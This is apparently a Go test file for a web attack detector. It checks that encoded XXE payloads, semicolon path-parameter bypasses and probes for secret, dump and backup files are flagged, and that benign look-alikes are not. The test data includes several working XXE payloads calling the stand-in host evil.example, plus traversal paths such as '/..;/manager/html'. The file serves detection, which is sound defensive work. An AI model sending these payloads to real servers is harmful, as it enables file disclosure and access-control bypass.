package patterns

import "testing"

// Families of issue 8 items 2 and 4 written in the seventh session from
// what the attacks are (encodings a parser decodes, the servlet path
// parameter, the extensions of data, dumps and source copies), not from
// corpus lines; each case failed before its signature.

func TestXXEDeclarationInAnyEncoding(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, q := range []string{
		// UTF-7 ('+' read as a space in the query, or kept as %2B)
		"xml=%2BADw-!ENTITY+xxe+SYSTEM+%2BACI-http://evil.example/%2BACI-%2BAD4-",
		"xml=+ADw-!DOCTYPE+foo+%2BAFs-+ADw-!ENTITY+a+%2BACI-b%2BACI-+AD4-",
		// a character reference escaped twice
		"data=%26amp%3Blt%3B!ENTITY+xxe+SYSTEM+%26amp%3Bquot%3Bhttp%3A%2F%2Fevil.example%2Fx%26amp%3Bquot%3B%26amp%3Bgt%3B",
		"data=%26amp%3B%23x3c%3B!DOCTYPE+foo+%5B%5D%26amp%3B%23x3e%3B",
		// a JSON or JavaScript escape of '<'
		"payload=%7B%22xml%22%3A%22%5Cu003c!DOCTYPE+foo+SYSTEM+%5C%22http%3A%2F%2Fevil.example%2Fx.dtd%5C%22%5Cu003e%22%7D",
		"xml=%5Cu003c!ENTITY+xxe+SYSTEM+%22file%3A%2F%2F%2Fdev%2Frandom%22%5Cu003e",
		// an external notation
		"xml=%3C!NOTATION+x+SYSTEM+%22http%3A%2F%2Fevil.example%2F%22%3E",
	} {
		if w := total(m.Match(req("GET", "/api/items?"+q, "Mozilla/5.0", ""), nil)); w < 10 {
			t.Errorf("?%s: %d points, want a ban", q, w)
		}
	}
	// a parameter entity's reference with its '%' as a character
	// reference: a probe's half, weak alone as %name; is
	for _, q := range []string{"x=%26%23x25%3Bdtd%3B", "x=%26%2337%3Bremote%3B"} {
		if !has(m.Match(req("GET", "/api/items?"+q, "Mozilla/5.0", ""), nil), "xxe-entity-reference") {
			t.Errorf("?%s: xxe-entity-reference not reported", q)
		}
	}
	for _, q := range []string{
		// markup written so, that declares nothing
		"q=%5Cu003c!DOCTYPE+html%5Cu003e%3Cp%3Ehi%3C%2Fp%3E",
		"q=%26amp%3Blt%3B!DOCTYPE+html%26amp%3Bgt%3B",
		"q=%2BADw-b%2BAD4-bold%2BADw-%2Fb%2BAD4-",
		"q=adw-!important",
		// a numeric character reference that is no parameter entity
		"q=%26%23x25%3B", "q=100%26%2337%3B", "q=%3C!NOTATION+in+a+DTD+tutorial",
	} {
		if hits := m.Match(req("GET", "/search?"+q, "Mozilla/5.0", ""), nil); len(hits) > 0 {
			t.Errorf("?%s: flagged %v", q, ids(hits))
		}
	}
}

func TestPathParamEmptySegment(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, p := range []string{"/api;/config", "/portalapi/v1/roles/option;%2fv1%2fping", "/admin;/users", "/..;/manager/html"} {
		if !has(m.Match(req("GET", p, "Mozilla/5.0", ""), nil), "path-param-empty") {
			t.Errorf("%s: path-param-empty not reported", p)
		}
	}
	for _, p := range []string{
		"/a&nbsp;/b", "/tag/rock&amp;/roll", "/shop;jsessionid=0A1B2C", "/shop;jsessionid=0A1B2C/cart",
		"/cars;color=red/2020", "/;/", "/a;b", "/a/;/b",
	} {
		if has(m.Match(req("GET", p, "Mozilla/5.0", ""), nil), "path-param-empty") {
			t.Errorf("%s: path-param-empty reported", p)
		}
	}
}

func TestSecretExtensionFamilies(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, p := range []string{
		// any name: the kind is in the extension or the copy's shape
		"/zork.bson", "/data/zork.sqlite", "/App_Data/zork.ldf", "/mysql/zork.ibd", "/zork.dmp", "/heap/zork.dmp",
		"/zork.pcap", "/zork.har", "/vpn/zork.ovpn", "/zork.rdp", "/WEB-INF/classes/zork.properties", "/deploy/zork.properties",
		"/zork.env", "/deploy/zork.env", "/k8s/secrets.yml", "/app/database.yaml", "/zork.7z", "/zork.gz",
		"/zork.sh", "/zork.py", "/zork.pl", "/zork.php-", "/zork.php.txt", "/inc/zork.inc.txt", "/zork.aspx~",
		"/Copy%20of%20zork.php", "/zork%20-%20Copy.php", "/zork.copy.php", "/zork(1).php", "/zork%20(3).php", "/zork%20(copy).php", "/zork.php.old.txt", "/zork.php~",
		"/resources/qmc/fonts/CVE-2023-41265.ttf", "/CVE-2021-1234.php", "/fonts/CVE_2023_41265.ttf",
		"/target.sh", "/reverse-get.sh",
	} {
		r := req("GET", p, "Mozilla/5.0", "")
		if w := points(missed(m, r)); w == 0 {
			t.Errorf("%s answered 404: not flagged", p)
		}
	}
	for _, p := range []string{"/zork.users.passwd", "/pazz.txt", "/pwd.txt"} {
		if w := points(missed(m, req("GET", p, "Mozilla/5.0", ""))); w < 10 {
			t.Errorf("%s answered 404: %d points, want a ban", p, w)
		}
	}
	// what sites link and visitors fetch, answered 404: no family
	for _, p := range []string{
		"/sitemap.xml.gz", "/install.sh", "/cgi-bin/search.pl", "/install.pl", "/get-docker.sh", "/setup.py", "/bootstrap.sh",
		"/api/openapi.yaml", "/docs/swagger.yml", "/files/report.zip", "/news/2018-annual-report.pdf",
		"/blog/cve-2023-41265-explained/", "/static/app.js.map", "/downloads/tool.tar.gz.sig",
		"/docs/installation/", "/pwd", "/password",
	} {
		if hits := missed(m, req("GET", p, "Mozilla/5.0", "")); has(hits, "probe-secret-extension") || has(hits, "probe-cve-named-file") || points(hits) >= 10 {
			t.Errorf("%s answered 404: flagged %v", p, ids(hits))
		}
	}
	// under a configuration directory sensitive-config-tree judges them
	// already: the family adds nothing (one miss, not two hints)
	for _, p := range []string{"/config/app.yml", "/conf/db.properties", "/app/config/parameters.yaml"} {
		if hits := missed(m, req("GET", p, "Mozilla/5.0", "")); has(hits, "probe-secret-extension") {
			t.Errorf("%s answered 404: flagged %v", p, ids(hits))
		}
	}
	// served, every one of them is the site's own
	for _, p := range []string{"/zork.properties", "/data/zork.db", "/zork.har", "/zork.php.txt", "/CVE-2021-1234.json"} {
		if hits := served(m, req("GET", p, "Mozilla/5.0", "")); has(hits, "probe-secret-extension") || has(hits, "probe-cve-named-file") {
			t.Errorf("%s answered 200: flagged %v", p, ids(hits))
		}
	}
}

func has(hits []Hit, id string) bool {
	for _, h := range hits {
		if h.ID == id {
			return true
		}
	}
	return false
}
